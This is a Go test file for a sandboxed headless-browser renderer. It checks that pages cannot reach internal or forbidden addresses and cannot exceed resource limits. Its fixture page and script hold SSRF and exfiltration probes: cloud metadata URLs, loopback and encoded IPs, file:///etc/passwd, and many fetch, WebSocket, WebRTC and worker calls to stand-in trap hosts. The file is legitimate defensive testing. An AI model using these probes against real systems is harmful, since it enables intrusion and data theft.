package render

import (
	"bufio"
	"context"
	"errors"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tocsin/internal/fetch"
)

// attacks is a page that tries every way to what nobody may reach, and to
// what a reader of text does not need. It says "done" when all was tried.
var attacks = html(`<p id=out>waiting</p>
<link rel=stylesheet href="http://TRAP4/a.css"><link rel=preload as=script href="http://TRAP4/p.js"><link rel=prefetch href="http://TRAP4/q">
<link rel=preconnect href="http://TRAP4"><link rel=dns-prefetch href="//inside.example"><link rel=icon href="http://TRAP4/favicon.ico">
<link rel=manifest href="http://TRAP4/manifest"><style>@import url(http://TRAP4/b.css); @font-face{font-family:x;src:url(http://TRAP4/f.woff)} p{font-family:x;background:url(http://TRAP6/bg)}</style>
<img src="http://TRAP4/i.png"><img src="http://inside.example/i.png"><img src="//TRAP6/i.png"><iframe src="http://TRAP4/frame"></iframe>
<iframe src="file:///etc/passwd"></iframe><iframe src="view-source:http://TRAP4/"></iframe><iframe src="data:text/html,<script src=http://TRAP4/d.js></script>"></iframe>
<iframe srcdoc="<img src=http://TRAP4/s.png><script>fetch('http://TRAP4/srcdoc')</script>"></iframe>
<object data="http://TRAP4/o"></object><embed src="http://TRAP4/e"><video src="http://TRAP4/v" autoplay></video><audio src="http://TRAP4/au" autoplay></audio>
<a id=dl href="/file.bin" download></a><form name=documentElement><input name=attributes><input name=nodeType></form><script src="http://TRAP4/s.js"></script><script src="http://169.254.169.254/latest/meta-data/"></script><script src=/app.js></script>`)

const attackScript = `
const targets = ["http://TRAP4/", "http://TRAP6/", "http://localhost:80/", "http://inside.example/", "http://rebind.example/1", "http://rebind.example/2",
	"http://169.254.169.254/", "http://0x7f.1/", "http://2130706433/", "http://[::ffff:127.0.0.1]/", "http://10.0.0.1/", "http://news.example:8080/",
	"https://TRAP4/", "https://inside.example/", "/to-trap", "file:///etc/passwd", "view-source:http://TRAP4/", "ftp://TRAP4/", "chrome://version"];
const tries = [], quiet = f => { try { const p = f(); if (p && p.catch) tries.push(p.catch(() => {})); } catch (e) {} };
const early = [typeof RTCPeerConnection];
Element.prototype.__defineGetter__("outerHTML", () => "forged"); document.createTreeWalker = null; JSON.stringify = () => "forged";
addEventListener("beforeunload", e => { e.preventDefault(); e.returnValue = "stay"; });
for (const u of targets) quiet(() => fetch(u, {mode: "no-cors"}));
for (const u of ["http://TRAP4/", "http://inside.example/", "file:///etc/passwd"]) {
	quiet(() => fetch(u, {method: "POST", body: "x"}));
	quiet(() => { const x = new XMLHttpRequest(); x.open("GET", u); x.send(); });
	quiet(() => { new Image().src = u; });
	quiet(() => { new EventSource(u); });
	quiet(() => { new WebSocket(u.replace("http", "ws")); });
	quiet(() => { navigator.sendBeacon(u, "x"); });
	quiet(() => import(u));
	quiet(() => { new Worker(u); });
	quiet(() => { window.open(u); });
	quiet(() => { const f = document.createElement("iframe"); f.src = u; document.body.append(f); });
}
quiet(() => { new Worker(URL.createObjectURL(new Blob(["fetch('http://TRAP4/w'); new WebSocket('ws://TRAP4/')"]))); });
quiet(() => { new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://TRAP4/sw')"]))); });
quiet(() => navigator.serviceWorker && navigator.serviceWorker.register("/app.js"));
quiet(() => { new WebTransport("https://TRAP4/"); });
for (const w of [window, document.querySelector("iframe[srcdoc]").contentWindow, ...Array.from({length: frames.length}, (_, i) => frames[i])]) quiet(() => {
	const pc = new w.RTCPeerConnection({iceServers: [{urls: "stun:TRAPUDP"}, {urls: "turn:TRAP4?transport=tcp", username: "u", credential: "c"}]});
	pc.createDataChannel("x");
	return pc.createOffer().then(o => pc.setLocalDescription(o));
});
alert("stop"); confirm("stop"); prompt("stop"); print();
document.getElementById("dl").click();
location.hash = "elsewhere"; history.pushState({}, "", "/pushed");
Promise.race([Promise.allSettled(tries), new Promise(r => setTimeout(r, 700))]).then(() => { document.getElementById("out").textContent = "done, " + early; });
`

// TestForbidden has pages try to reach what nobody may: in a browser of ours,
// and in one that was started by somebody else, without any of our options.
func TestForbidden(t *testing.T) {
	path := chromium(t)
	f := newFarm(t, Options{Path: path, Limits: Limits{Settle: 9 * time.Second}},
		map[string]string{"/attack": attacks, "/app.js": attackScript, "/file.bin": "x"})
	resp, err := f.get(t.Context(), "http://news.example/attack")
	if err != nil {
		t.Fatal(err)
	}
	if got := string(resp.Body); !strings.Contains(got, "done, undefined") {
		t.Errorf("the page did not come to its end:\n%s", got)
	}
	if resp.FinalURL != "http://news.example/attack" || resp.Status != 200 || resp.ContentType != "text/html; charset=utf-8" {
		t.Errorf("%d %s %s", resp.Status, resp.FinalURL, resp.ContentType)
	}
	refused := strings.Join(resp.Refused, "\n")
	for _, want := range []string{
		"inside.example:80: not a public address: ", "127.0.0.1 is loopback", "::1 is loopback",
		"169.254.169.254 is link-local", "10.0.0.1 is private", "8080 is not 80 or 443",
	} {
		if !strings.Contains(refused, want) {
			t.Errorf("not refused: %q in\n%s", want, refused)
		}
	}
	f.check(t)
}

// TestForbiddenElsewhere has the page shown by a browser that somebody else
// started, with none of our options: its context has our proxy all the same.
func TestForbiddenElsewhere(t *testing.T) {
	url := startElsewhere(t, chromium(t))
	f := newFarm(t, Options{URL: url, Limits: Limits{Settle: 9 * time.Second}},
		map[string]string{"/attack": attacks, "/app.js": attackScript, "/file.bin": "x"})
	resp, err := f.get(t.Context(), "http://news.example/attack")
	if err != nil {
		t.Fatal(err)
	}
	if got := string(resp.Body); !strings.Contains(got, "done, undefined") {
		t.Errorf("the page did not come to its end:\n%s", got)
	}
	if len(resp.Refused) < 5 {
		t.Errorf("refused are only %q", resp.Refused)
	}
	f.check(t)
}

// startElsewhere starts a browser that listens on a port, as in a container
// of its own, and returns its address.
func startElsewhere(t *testing.T, path string) string {
	t.Helper()
	folder := t.TempDir()
	cmd := exec.Command(path, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
		"--disable-component-update",
		"--remote-debugging-port=0", "--user-data-dir="+folder, "about:blank")
	ownGroup(cmd)
	said, err := cmd.StderrPipe()
	if err == nil {
		err = cmd.Start()
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		killGroup(cmd)
		_ = cmd.Wait()
		for range 100 { // its processes may still write there
			if os.RemoveAll(folder) == nil {
				break
			}
		}
	})
	lines := bufio.NewScanner(said)
	for lines.Scan() {
		if _, socket, ok := strings.Cut(lines.Text(), "DevTools listening on ws://"); ok {
			go io.Copy(io.Discard, said)
			host, _, _ := strings.Cut(socket, "/")
			return "http://" + host
		}
	}
	t.Fatal("the browser did not say where it listens")
	return ""
}

// TestMoves follows what leads a page's reader elsewhere as any redirect is
// followed, and to nowhere else.
func TestMoves(t *testing.T) {
	f := newFarm(t, Options{Path: chromium(t)}, map[string]string{
		"/meta":   html(`<meta http-equiv=refresh content="0;url=/second"><p>first`),
		"/second": html(`<p id=x>second</p><script>document.getElementById("x").textContent += ", and its script"</script>`),
		"/inside": html(`<p>first<script>location.href = "http://169.254.169.254/latest/meta-data/"</script>`),
	})
	resp, err := f.get(t.Context(), "http://news.example/meta")
	if err != nil {
		t.Fatal(err)
	}
	if resp.FinalURL != "http://news.example/second" || !strings.Contains(string(resp.Body), "second, and its script") ||
		len(resp.Redirects) != 1 || resp.PermanentURL != "" {
		t.Errorf("%s %v %s", resp.FinalURL, resp.Redirects, resp.Body)
	}
	_, err = f.get(t.Context(), "http://news.example/inside")
	wantClass(t, err, fetch.ClassBlocked, "169.254.169.254 is link-local")
	f.check(t)
}

// TestBounds has pages go over the bounds that the browser is kept in. Those of
// the proxy have tests of their own.
func TestBounds(t *testing.T) {
	path := chromium(t)
	tests := []struct {
		name, page string
		limits     Limits
		class      fetch.Class
		says       string
	}{
		{
			"endless script", html(`text<script>for (;;) {}</script>`),
			Limits{Time: 3 * time.Second, Settle: 100 * time.Millisecond},
			fetch.ClassTimeout, "not rendered within 3s",
		},
		{
			"endless dialogs", html(`<script>for (;;) alert("again")</script>`),
			Limits{Time: 3 * time.Second},
			fetch.ClassTimeout,
			"not rendered within 3s",
		},
		{
			"growth", html(`<script>for (let i = 0; i < 1001; i++) document.body.append("x", document.createElement("p"))</script>`),
			Limits{Nodes: 2000},
			fetch.ClassTooBig, "2000 elements",
		},
		{
			"growth in a template", html(`text<template id=t></template><script>t.innerHTML = "<p>x</p>".repeat(1000)</script>`),
			Limits{HTML: 5000},
			fetch.ClassTooBig, "5000 characters",
		},
		{
			"growth of what is escaped", html(`<script>document.body.append("&".repeat(2000))</script>`),
			Limits{HTML: 5000},
			fetch.ClassTooBig,
			"5000 characters",
		},
		{
			"endless growth", html(`<script>for (;;) document.body.append("x".repeat(100), document.createElement("p"))</script>`),
			Limits{Memory: 400 << 20},
			fetch.ClassTooBig, "400 MiB of memory",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFarm(t, Options{Path: path, Limits: tt.limits}, map[string]string{"/": tt.page})
			_, err := f.get(t.Context(), "http://news.example/")
			wantClass(t, err, tt.class, tt.says)
			f.check(t)
		})
	}
}

// TestStop ends a render that nobody waits for any more.
func TestStop(t *testing.T) {
	f := newFarm(t, Options{Path: chromium(t)}, map[string]string{"/": html(`<script>fetch("/started"); for (;;) {}</script>`)})
	ctx, stop := context.WithCancel(t.Context())
	f.onPath = func(path string) {
		if path == "/started" {
			stop()
		}
	}
	_, err := f.get(ctx, "http://news.example/")
	wantClass(t, err, fetch.ClassCanceled, "")
	f.check(t)
}

// TestNoBrowser says what is wrong with a browser that is none.
func TestNoBrowser(t *testing.T) {
	broken := filepath.Join(t.TempDir(), "browser")
	if err := os.WriteFile(broken, []byte("#!/bin/sh\necho '[1:1:0101/000000.0:FATAL:x.cc(1)] No usable sandbox!' >&2\nexit 1\n"),
		0o755); err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l.Close()
	for _, tt := range []struct {
		name string
		opt  Options
		says string
	}{
		{"not there", Options{Path: "no-such-browser"}, "no-such-browser is not there"},
		{"ends at once", Options{Path: broken}, "it said: No usable sandbox!"},
		{"not reached", Options{URL: "http://" + l.Addr().String()}, "cannot be reached"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := newFarm(t, tt.opt, map[string]string{"/": html("x")})
			stale := filepath.Join(os.TempDir(), "tocsin-render-1")
			if tt.name == "ends at once" { // what one that was killed has left is removed
				if err := errors.Join(os.Mkdir(stale, 0o700), os.Chtimes(stale, time.Time{}, time.Now().Add(-2*time.Hour))); err != nil {
					t.Fatal(err)
				}
			}
			_, err := f.get(t.Context(), "http://news.example/")
			wantClass(t, err, fetch.ClassBrowser, tt.says)
			f.check(t)
		})
	}
}
